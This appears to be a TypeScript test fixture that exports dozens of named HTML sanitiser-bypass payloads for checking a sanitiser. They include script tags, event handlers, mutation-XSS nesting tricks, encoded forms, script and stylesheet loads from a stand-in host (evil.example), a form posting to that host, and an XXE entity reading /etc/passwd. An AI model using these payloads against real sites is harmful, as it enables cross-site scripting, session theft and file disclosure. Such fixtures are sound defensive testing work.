import { addressPayloads } from './address-payloads.ts';
import { drawingPayloads } from './drawing-payloads.ts';

/** Scripts, handlers, raw text, names and nesting that have got past a sanitiser somewhere. */
const markupPayloads: readonly [name: string, html: string][] = [
  ['script', '<script>alert(1)</script>'],
  ['id of the scripts’ start', '<p id="hydration">alert(1)</p><h2>Hydration</h2>'],
  ['script in capitals', '<SCRIPT SRC=//evil.example/x.js></SCRIPT>'],
  ['script in a script tag', '<scr<script>ipt>alert(1)</scr</script>ipt>'],
  ['script with a slash', '<script/src="data:text/javascript,alert(1)"></script >'],
  ['script, unclosed', '<script>alert(1)//'],
  ['script after a fake comment end', '<!--> <script>alert(1)</script> -->'],
  ['script after a bang comment end', '<!-- --!><script>alert(1)</script>'],
  ['comment, unclosed', '<p>a</p><!-- <img src=x onerror=alert(1)>'],
  ['comment of a conditional kind', '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->'],
  ['processing instruction', '<?xml version="1.0"?><?php echo 1 ?>'],
  ['declaration of an entity', '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;'],
  ['handler', '<img src=x onerror=alert(1)>'],
  ['handler on our own picture', '<img src="/media/a.svg" onerror="alert(1)" onload=alert(1)>'],
  ['handler after a slash', '<img/src=x/onerror=alert(1)>'],
  ['handler after a quote', '<img src="x"onerror="alert(1)">'],
  ['handler in a quote', '<img title="a" onerror=alert(1) "">'],
  ['handler in capitals', '<p OnClick="alert(1)" ONMOUSEOVER=alert(1)>a</p>'],
  [
    'handler on expander',
    '<details open ontoggle=alert(1)><summary onfocus=alert(1) tabindex=0>a</summary></details>',
  ],
  [
    'handler on a film',
    '<video src="/media/a.mp4" onerror=alert(1) autoplay><source onerror=alert(1)></video>',
  ],
  ['handler with a form feed', '<p\fonclick=alert(1)>a</p>'],
  ['handler on the body', '<body onload=alert(1)><p>a</p>'],
  ['style', '<style>@import "//evil.example/x.css"; body{display:none}</style>'],
  ['style attribute', '<p style="position:fixed;inset:0;background:url(//evil.example)">a</p>'],
  [
    'form',
    '<form action="//evil.example"><input name=a autofocus onfocus=alert(1)><button formaction="javascript:alert(1)">a</button></form>',
  ],
  ['forms in forms', '<form id=a><div></form><form id=b><input name=c></form></div>'],
  [
    'select',
    '<select><option><script>alert(1)</script></option><noscript><img src=x onerror=alert(1)></noscript></select>',
  ],
  ['textarea', '<textarea></textarea><img src=x onerror=alert(1)></textarea>'],
  ['keygen and isindex', '<keygen autofocus onfocus=alert(1)><isindex action="javascript:alert(1)">'],
  ['noscript', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'],
  ['noembed', '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>'],
  ['noframes', '<noframes><style></noframes><img src=x onerror=alert(1)></style></noframes>'],
  ['xmp', '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>'],
  ['plaintext', '<plaintext><img src=x onerror=alert(1)>'],
  ['template', '<template><script>alert(1)</script><img src=x onerror=alert(1)></template>'],
  [
    'template with a shadow root',
    '<div><template shadowrootmode=open><script>alert(1)</script></template></div>',
  ],
  ['title in the body', '<title><img src=x onerror=alert(1)></title></title><script>alert(1)</script>'],
  ['quotes that break out', '<p title="&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;">a</p>'],
  ['backquotes that break out', '<p title="`onmouseover=alert(1)">a</p>'],
  ['quotes of two kinds', `<p title='"><img src=x onerror=alert(1)>'>a</p>`],
  ['text that becomes markup', '&lt;script&gt;alert(1)&lt;/script&gt;&#60;img src=x onerror=alert(1)&#62;'],
  ['text that becomes markup twice', '&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;'],
  ['ids of the page', '<p id=main>a</p><p id="error-summary">b</p><h2 id=q>c</h2><h2>Menu</h2><h2>Top</h2>'],
  ['ids twice', '<p id=a>a</p><p id=a>b</p><h2>a</h2><h2>A</h2><h2 id="a-2">a</h2>'],
  [
    'ids and names that hide the document',
    '<a id=location name=cookie href="/energy">a</a><img name=body id=getElementById src="/media/a.png">',
  ],
  ['classes of the page', '<div class="header sheet visually-hidden button note">a</div>'],
  [
    'slots and parts',
    '<p slot=x part=y is=z contenteditable popover hidden inert accesskey=s tabindex=5 draggable=true>a</p>',
  ],
  ['roles of dialogs', '<div role=alertdialog aria-live=assertive aria-modal=true>a</div>'],
  [
    'data for scripts',
    '<p data-action="delete" data-bind="html: x" v-html=x ng-init=x x-data="alert(1)" hx-get="/x">a</p>',
  ],
  ['custom element', '<x-evil onclick=alert(1)><img src=x onerror=alert(1)></x-evil>'],
  ['marquee', '<marquee onstart=alert(1) behavior=alternate><p>a</marquee>'],
  ['links in links', '<a href="/a"><table><tr><td><a href="javascript:alert(1)">a</a></td></tr></table></a>'],
  [
    'table parts astray',
    '<tr><td><script>alert(1)</script></td></tr><caption>a</caption><table><img src=x onerror=alert(1)><tr>a<p>b</table>',
  ],
  ['end tags that are none', '</article></div></body></html><script>alert(1)</script>'],
  ['end tag of a line', '</br></p><br/onclick=alert(1)>'],
  ['half a surrogate', '<p title="\uD83D">\uDE00</p><p>\uD800'],
  ['null characters', '<scr\0ipt>alert(1)</scr\0ipt><p\0 onclick=alert(1)>\0</p>'],
  ['other alphabets', '＜script＞alert(1)＜/script＞<ſcript>alert(1)</ſcript><ımg src=x onerror=alert(1)>'],
  ['seven-bit tricks', '+ADw-script+AD4-alert(1)+ADw-/script+AD4-'],
  [
    'prototype names',
    '<constructor><__proto__ toString=1>a</__proto__><p constructor=x __proto__=y toString=z>a</p>',
  ],
];

/** Markup that has got scripts, styles, frames or someone else's address past a sanitiser somewhere. */
export const payloads = [...markupPayloads, ...addressPayloads, ...drawingPayloads];
